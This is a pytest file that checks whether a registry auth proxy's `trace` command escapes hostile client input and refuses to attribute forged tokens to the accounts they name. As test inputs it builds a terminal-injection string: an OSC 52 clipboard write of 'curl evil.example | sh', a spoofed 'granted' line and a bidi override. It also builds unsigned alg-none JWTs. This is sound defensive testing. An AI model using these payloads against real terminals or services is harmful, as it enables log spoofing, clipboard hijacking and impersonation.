"""`regauth trace` on logs a real `regauth serve` wrote while a client sent hostile text and
forged tokens (issue 20, items 10 and 11), run as an operator would: a subprocess whose output
goes to a pipe, or to a terminal (a pseudo-terminal, so rich styles it).

10. What a client wrote (a token request's query, a Basic user name, the `sub` of an unsigned
    Bearer token, a request path) reaches the operator's terminal with its control characters
    escaped: no OSC 52 clipboard write, no carriage return or cursor movement that could paint
    a forged "granted" line over a real one, no bidi override.
11. A request is attributed to an account only when regauth verified who sent it; a forged
    token's `sub` is shown as an unverified claim, and `trace --account NAME` never lists an
    attacker's requests under NAME, not even by presenting the `jti` of NAME's real token.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import re
import subprocess
import time
import tty
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote
from urllib.parse import urlencode

import jwt
import pytest

from tests.support import httpclient
from tests.support.policies import PASSWORDS
from tests.support.policies import SERVICE
from tests.support.proxy import REGAUTH
from tests.support.proxy import ProxyProcess

# What an attacker would print on the operator's terminal: a clipboard write (OSC 52, ended by
# BEL), then a carriage return, "erase line" and a forged line in place of the real one, and a
# right-to-left override.
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"
FORGED_LINE = "\r\x1b[2K  +  0.001s grant         repository:secret/x:push → granted [push]"
BIDI = "\u202e"
HOSTILE = OSC52 + FORGED_LINE + BIDI
# Every control or bidi character the hostile strings carry.
RAW = ("\x1b", "\x07", "\r", "\u202e")
# On a terminal, rich writes SGR sequences (colour, bold) and nothing else.
SGR = re.compile(r"\x1b\[[0-9;]*m")


def forged(claims: dict[str, object]) -> str:
    """An unsigned token (alg none), as anyone can write one."""

    def part(value: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part(claims)}."


def run_trace(proxy: ProxyProcess, *args: str, terminal: bool = False) -> bytes:
    """`regauth trace LOG ARGS` as an operator runs it; its stdout bytes exactly."""
    time.sleep(0.3)  # records are flushed per request; let the last one land
    cmd = [str(REGAUTH), "trace", str(proxy.log_path), *args]
    if not terminal:
        done = subprocess.run(cmd, capture_output=True, timeout=60)
        assert done.returncode == 0, done.stderr
        return done.stdout
    parent, child = pty.openpty()
    tty.setraw(child)  # no newline translation: the bytes as the tool wrote them
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "TERM")}
    env.update(TERM="xterm-256color", COLUMNS="200")
    process = subprocess.Popen(cmd, stdout=child, stderr=subprocess.PIPE, env=env)
    os.close(child)
    out = bytearray()
    while True:
        try:
            chunk = os.read(parent, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        out += chunk
    os.close(parent)
    assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
    return bytes(out)


def assert_no_raw_control(output: bytes, terminal: bool) -> str:
    text = output.decode("utf-8")
    if terminal:
        styled = SGR.findall(text)
        assert styled, "a terminal gets rich's styles: the test did not run on one"
        text = SGR.sub("", text)
    found = [repr(c) for c in RAW if c in text]
    assert not found, f"raw {', '.join(found)} reached the operator:\n{text[:3000]}"
    return text


@pytest.fixture
def enforce_proxy(write_policy: Callable[..., Path], make_registry, make_proxy) -> ProxyProcess:
    registry = make_registry()
    return make_proxy(write_policy(), registry.url)


def _hostile_traffic(proxy: ProxyProcess) -> None:
    port, ca = proxy.port, proxy.ca
    # A token request whose query carries the escapes (grant type, client id, an account
    # parameter and a scope the token service cannot parse).
    for params in (
        {"grant_type": HOSTILE},
        {"client_id": HOSTILE, "account": HOSTILE},
        {"scope": f"repository:public/app{HOSTILE}:pull"},
    ):
        reply = httpclient.request(
            port, ca, "GET", "/v2/token?" + urlencode({"service": SERVICE, **params})
        )
        assert reply.status < 500, reply.body
    # A login whose Basic user name carries them.
    refused = httpclient.get_token(
        port, ca, ["repository:public/app:pull"], SERVICE, (HOSTILE, "wrong")
    )
    assert refused.status == 401
    # A forged token whose `sub` carries them, and a request path that does.
    token = forged({"sub": HOSTILE, "iss": "x", "aud": SERVICE, "jti": HOSTILE})
    reply = httpclient.request(
        port,
        ca,
        "GET",
        "/v2/public/app/tags/list?n=" + quote(HOSTILE, safe=""),
        {"Authorization": f"Bearer {token}"},
    )
    assert reply.status == 401


@pytest.mark.parametrize("terminal", [False, True], ids=["pipe", "terminal"])
def test_trace_escapes_what_clients_wrote(enforce_proxy: ProxyProcess, terminal: bool) -> None:
    proxy = enforce_proxy
    _hostile_traffic(proxy)
    logged = proxy.log_path.read_text()
    assert "\\u001b]52" in logged and "\\u202e" in logged  # the log holds the escapes
    text = assert_no_raw_control(run_trace(proxy, terminal=terminal), terminal)
    # Shown, escaped: the operator sees that someone tried.
    assert "\\x1b]52;c;" in text and "\\x0d\\x1b[2K" in text and "\\u202e" in text
    # The forged grant stays inside the line of the step that carried it.
    forged_lines = [
        line
        for line in text.splitlines()
        if line.lstrip().startswith("+  0.001s grant         repository:secret")
    ]
    assert not forged_lines, forged_lines


def _strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


def test_trace_json_escapes_control_characters(enforce_proxy: ProxyProcess) -> None:
    """A guard rather than a reproduction: json.dumps has always escaped them."""
    proxy = enforce_proxy
    _hostile_traffic(proxy)
    output = run_trace(proxy, "--json")
    assert not any(c.encode() in output for c in RAW)
    # The text is all there, exactly, for a program to read.
    assert any(HOSTILE in s for s in _strings(json.loads(output)))


# --- 11. attribution ---------------------------------------------------------------------------


def _alice_then_attacker(proxy: ProxyProcess) -> tuple[str, list[str]]:
    """alice signs in and reads her team's area; then someone presents forged tokens in her name,
    one with the `jti` of her real token. Returns her jti and the attacker's request paths."""
    port, ca = proxy.port, proxy.ca
    got = httpclient.get_token(
        port, ca, ["repository:teams/web/app:pull"], SERVICE, ("alice", PASSWORDS["alice"])
    )
    assert got.status == 200, got.body
    real = got.json()["token"]
    jti = jwt.decode(real, options={"verify_signature": False})["jti"]
    assert httpclient.request(
        port, ca, "GET", "/v2/teams/web/app/tags/list", {"Authorization": f"Bearer {real}"}
    ).status in (200, 404)
    attacks = []
    for n, claims in enumerate(({"sub": "alice", "jti": jti}, {"sub": "alice"})):
        path = f"/v2/public/app/tags/list?attacker={n}"
        token = forged(
            {"iss": "regauth-test-issuer", "aud": SERVICE, "exp": int(time.time()) + 300, **claims}
        )
        reply = httpclient.request(port, ca, "GET", path, {"Authorization": f"Bearer {token}"})
        assert reply.status == 401
        attacks.append(path)
    return jti, attacks


def _attacker_lines(proxy: ProxyProcess) -> set[int]:
    lines = proxy.log_path.read_text().splitlines()
    return {n for n, line in enumerate(lines, 1) if "attacker=" in json.loads(line)["path"]}


def test_a_forged_token_is_never_attributed_to_the_account_it_names(
    enforce_proxy: ProxyProcess,
) -> None:
    proxy = enforce_proxy
    _alice_then_attacker(proxy)
    attacker = _attacker_lines(proxy)
    everything = json.loads(run_trace(proxy, "--json"))["conversations"]
    alices = json.loads(run_trace(proxy, "--json", "--account", "alice"))["conversations"]
    assert alices, "alice's own conversation is listed"
    for conversation in alices:
        lines = {s["log_line"] for s in conversation["steps"]}
        assert not lines & attacker, ("the attacker's requests are listed as alice's", conversation)
    for conversation in everything:
        if {s["log_line"] for s in conversation["steps"]} & attacker:
            assert "alice" not in conversation["accounts"], conversation
            assert "sub='alice' (unverified)" in " ".join(conversation["claims"]), conversation
    text = run_trace(proxy).decode()
    assert "claims sub='alice' (unverified)" in text


def test_delegate_mode_shows_claims_as_checked_by_the_registry(token_registry_proxy) -> None:
    _registry, proxy = token_registry_proxy
    port, ca = proxy.port, proxy.ca
    got = httpclient.get_token(
        port, ca, ["repository:public/app:pull"], SERVICE, ("ci", PASSWORDS["ci"])
    )
    assert got.status == 200, got.body
    real = got.json()["token"]
    assert httpclient.request(
        port, ca, "GET", "/v2/public/app/tags/list", {"Authorization": f"Bearer {real}"}
    ).status in (200, 404)
    token = forged(
        {
            "sub": "alice",
            "iss": "regauth-test-issuer",
            "aud": SERVICE,
            "exp": int(time.time()) + 300,
        }
    )
    reply = httpclient.request(
        port, ca, "GET", "/v2/public/app/tags/list?attacker=0", {"Authorization": f"Bearer {token}"}
    )
    assert reply.status == 401  # the registry refused it
    attacker = _attacker_lines(proxy)
    assert not json.loads(run_trace(proxy, "--json", "--account", "alice"))["conversations"]
    ci = json.loads(run_trace(proxy, "--json", "--account", "ci"))["conversations"]
    assert ci and not any({s["log_line"] for s in c["steps"]} & attacker for c in ci)
    text = run_trace(proxy).decode()
    assert "claims sub='alice' (claimed, checked by the registry)" in text
    assert "claims sub='ci' (claimed, checked by the registry)" in text
